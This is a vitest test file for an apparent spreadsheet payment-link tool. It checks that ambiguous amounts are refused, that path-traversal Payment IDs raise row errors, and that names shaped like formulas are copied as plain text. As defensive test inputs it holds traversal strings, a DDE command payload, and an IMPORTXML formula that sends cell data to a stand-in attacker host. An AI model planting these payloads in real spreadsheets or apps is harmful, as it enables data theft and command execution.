/**
 * Rows stay true, end to end on the built bundle: amounts a person could read two ways, ids
 * that would change a URL, text copied into other sheets, expiry as sent, renewals that close
 * the old request first, property values measured in bytes.
 */
import { describe, expect, it } from 'vitest';
import { SHEET, World } from '../support/world';

const HEADER = ['Name', 'Amount', 'Email', 'Mobile', 'Description', 'Expires At'];

describe('bad input, named', () => {
  it('refuses an amount with separators a person could read two ways, and sends nothing for it', () => {
    const world = new World({
      rows: [HEADER, ['Budi', '1.500,000', '', '', 'Katering', ''], ['Siti', "'1,000.000", '', '', 'Kue', ''], ['Andi', '250000', '', '', 'Tenda', '']],
    });
    world.run('createPaymentLinks');
    const errors = world.column('Error');
    expect(errors[0]).toBe('Amount: "1.500,000" can be read two ways; write it with one kind of separator, e.g. 1500000 or 1.500.000');
    expect(errors[1]).toContain('"1,000.000" can be read two ways');
    expect(errors[2]).toBe('');
    expect(world.sim.payments().map((p) => p.amount)).toEqual([250000]);
  });
});

/** A sheet whose links were made, then a Payment ID cell typed over. */
function withLinks(rows: string[][]): World {
  const world = new World({ rows: [HEADER, ...rows] });
  world.run('createPaymentLinks');
  return world;
}

function typeAt(world: World, header: string, dataRow: number, text: string): void {
  const column = world.header().indexOf(header) + 1;
  world.runtime.spreadsheet.sheet(SHEET).write(dataRow + 1, column, text);
}

describe('ids that would change a URL', () => {
  it.each(['..', '.', 'abc/../../payments', 'abc def'])('refresh gives %j a row error and sends nothing to another path', (bad) => {
    const world = withLinks([
      ['Budi', '250000', '', '', 'Katering', ''],
      ['Siti', '150000', '', '', 'Kue', ''],
    ]);
    typeAt(world, 'Payment ID', 1, bad);
    const before = world.sim.requests.length;
    world.run('refreshPaymentStatus');
    world.driveToEnd();
    expect(world.column('Error')[0]).toContain(`Payment ID: "${bad}" does not look like a Mayar id`);
    const paths = world.sim.requests.slice(before).map((r) => r.path);
    expect(paths.every((p) => /^\/hl\/v2\/(payments|webhooks\/history|transactions)(\/[0-9a-f-]{36})?$/.test(p))).toBe(true);
    expect(world.column('Status')[1]).toBe('Unpaid');
  });

  it('close gives a bad Payment ID a row error and closes only real ids', () => {
    const world = withLinks([
      ['Budi', '250000', '', '', 'Katering', ''],
      ['Siti', '150000', '', '', 'Kue', ''],
    ]);
    typeAt(world, 'Payment ID', 1, '../payments/x');
    world.runtime.spreadsheet.setSelection(SHEET, 'A2:B3');
    world.runtime.ui.answers.push('YES');
    const before = world.sim.requests.length;
    world.run('closeSelectedPaymentLinks');
    expect(world.column('Error')[0]).toContain('Payment ID: "../payments/x" does not look like a Mayar id');
    expect(world.column('Status')).toEqual(['Unpaid', 'Closed']);
    expect(world.sim.requests.slice(before).map((r) => r.method + ' ' + r.path.replace(/[0-9a-f-]{36}/, '{id}'))).toEqual(['POST /hl/v2/payments/{id}/close']);
  });
});

describe('text copied into another sheet stays text', () => {
  const EVIL = ['=IMPORTXML("https://evil.example/?"&A2,"//a")', "+cmd|' /C calc'!A0", '@SUM(1)'];

  it('Bill again next period copies a name that reads like a formula as text', () => {
    const world = new World({
      rows: [['Name', 'Amount', 'Description', 'Expires At'], ...EVIL.map((name) => [`'${name}`, '150000', 'SPP Desember 2026', '2026-12-31'])],
    });
    expect(world.column('Name')).toEqual(EVIL);
    world.run('billNextPeriod');
    const sheet = 'January 2027';
    expect(world.column('Name', sheet)).toEqual(EVIL);
    expect(world.runtime.spreadsheet.formulas(sheet).flat().filter(Boolean)).toEqual([]);
  });

  it('the summary names a sheet that reads like a formula as text', () => {
    const world = new World({ rows: [HEADER, ['Budi', '250000', '', '', 'Katering', '']] });
    world.run('createPaymentLinks');
    world.runtime.spreadsheet.sheet(SHEET).name = EVIL[0] ?? '';
    world.run('refreshPaymentStatus');
    world.driveToEnd();
    const summary = world.runtime.spreadsheet.sheets.find((s) => /Summary|Ringkasan/.test(s.name))?.name ?? '';
    expect(world.values(summary).flat()).toContain(EVIL[0]);
    expect(world.runtime.spreadsheet.formulas(summary).flat().filter(Boolean)).toEqual([]);
  });
});
